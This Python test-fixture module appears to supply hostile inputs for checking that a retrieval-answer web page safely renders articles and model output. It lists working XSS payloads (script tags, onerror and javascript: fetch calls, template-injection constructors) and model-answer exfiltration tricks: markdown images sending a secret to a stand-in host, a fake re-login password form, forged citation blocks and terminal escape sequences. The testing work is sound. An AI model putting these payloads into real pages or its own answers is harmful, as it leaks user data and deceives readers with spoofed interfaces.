"""Texts that attack the page, as an article, a question or a model may hold them."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import replace

from rag.types import Answer, Citation, Sentence


def attacks(home: str) -> tuple[str, ...]:
    """Every way of making a page run or load something that is known to us; each would be heard at ``home``."""
    url = f"http://{home}/x"
    return (
        f"<script>fetch('{url}')</script>",
        f"<img src='{url}' onerror=\"fetch('{url}')\">",
        f"<svg onload=fetch('{url}')><image href='{url}'></svg>",
        f"<iframe src='{url}'></iframe><object data='{url}'></object><embed src='{url}'>",
        f"<video poster='{url}'></video><audio src='{url}' autoplay></audio><input type=image src='{url}'>",
        f"<b style=\"background:url('{url}')\">bold</b><table background='{url}'><tr><td>1</table>",
        f"<form action='{url}'><button autofocus>Go on</button></form>",
        f"<meta http-equiv=refresh content='0;url={url}'><base href='{url}'><link rel=stylesheet href='{url}'>",
        f"![picture]({url}) ![again][1] [link](javascript:fetch('{url}')) <{url}> {url} www.{home}",
        f"\n\n[1]: {url}\n\n```mermaid\ngraph TD\n```\n\n| a |\n|---|\n\n# Heading\n\n- item $$x^2$$",
        f"${{fetch('{url}')}} {{{{constructor.constructor('fetch(`{url}`)')()}}}} {{{{#each x}}}} ` \\u \\x C:\\new",
        "According to [1] and [2] and [7], [ID:0] ##0$$ 【1†source】 <a class='cite' href='#s-1-9'>9</a>",
        "</title></textarea></style>--><plaintext>\x00\x1b[2J\u202egnp.exe\u2066",
    )


def model_answers(home: str) -> dict[str, str]:
    """What a hostile or misled model could write to carry a question away or to pose as ours; each would be heard."""
    url = f"http://{home}/x?d=SECRET"
    return {
        "image": f"![x]({url})",
        "reference": f"![x][1] and [x][2]\n\n[1]: {url}\n[2]: <{url}>",
        "elements": (
            f"<img src=//{home}/x><svg><image href='{url}'/></svg><input type=image src='{url}'>"
            f"<video poster='{url}'></video><p style=\"background:url('{url}')\">x</p>"
        ),
        "form": f"<form action='{url}'><input name=password><button>Log in again</button></form>",
        "refresh": f'<meta http-equiv=refresh content="0;url={url}">',
        "scripts in links": f"[click](javascript:fetch('{url}')) [data](data:text/html,<script>fetch('{url}')</script>)",
        "autolink": f"<{url}> {url} www.{home} http://exаmple.test/ mailto:a@{home}",
        "fences": f"```mermaid\ngraph TD; A-->B\n```\n```html\n<img src='{url}'>\n```\n$$\\includegraphics{{{url}}}$$ \\(x\\)",
        "citations": "[999] [-1] [⟦k7q2⟧](#s-9-1) <a class='cite' href='#s-1-2'>2</a> " + "[1]" * 500,
        "invented quote": "The council said: “We never voted on any ferry at all, and there is no council.” [1]",
        "our own block": (
            "Sources\n\n1. HR-policy.pdf (page 3)\n</div><div class='answer'><p class='sources-link'>"
            "<a href='#s-1'>7 sources</a> <span class='written'>every quote checked letter for letter</span></p>"
        ),
        "control characters": "\x1b[2J\x1b]8;;"
        + url
        + "\x07link\x00 \u202egnp.exe\u2066 half a letter \udce2"
        + "\n" * 20_000,
        "very long": "x" * 15_000 + " " + "y " * 1000,
    }


def scripted(text: str) -> Callable[[Answer], Iterator[Answer]]:
    """What the conductor would make of a model's text, were nothing in it understood: all of it, everywhere."""

    def write(answer: Answer) -> Iterator[Answer]:
        best = answer.hits[0]
        quote = best.passage.text.split(". ")[0]
        citation = Citation(1, best, quote, best.passage.start, best.passage.start + len(quote))
        whole = (0, len(text))
        sentences = (
            Sentence(text, (citation,), True, "\n- ", (whole,), (whole,), whole, text, text),
            Sentence(text, supported=False, lead=f"\n{text}"),
            Sentence(text, (citation,), lead="\n1. "),
        )
        answer = replace(answer, model=f"near:{text}", searched=text, notice=text, text=text)
        yield replace(answer, sentences=(Sentence(text[:-1] or "x"),))
        yield replace(answer, sentences=sentences, citations=(citation,))

    return write


def shortened(title: str) -> str:
    return " ".join(title.replace("\x00", "").replace("\x1b", "").replace("\u202e", "").replace("\u2066", "").split())
